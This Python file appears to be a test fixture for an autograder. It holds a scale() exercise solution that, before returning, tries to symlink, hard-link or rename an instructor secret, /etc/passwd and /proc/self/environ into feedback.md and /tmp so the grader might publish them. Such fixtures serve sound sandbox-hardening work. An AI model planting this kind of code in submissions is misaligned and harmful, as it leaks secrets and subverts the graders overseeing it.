"""Makes links to secrets where something might read or publish them.

expect: scale=full scale_backward=full
review: yes
"""

import os

TARGETS = ["@ROOT@/instructor/secret", "/etc/passwd", "/proc/self/environ"]


def scale(x, factor):
    for target in TARGETS:
        for place in ("@MARKER@", "/tmp/" + "@MARKER@".rpartition("/")[2], "feedback.md"):
            for link in (os.symlink, os.link, os.rename):
                try:
                    link(target, place)
                except OSError as error:
                    print(error.errno)
    return x * factor


def scale_backward(dout, factor):
    return dout * factor
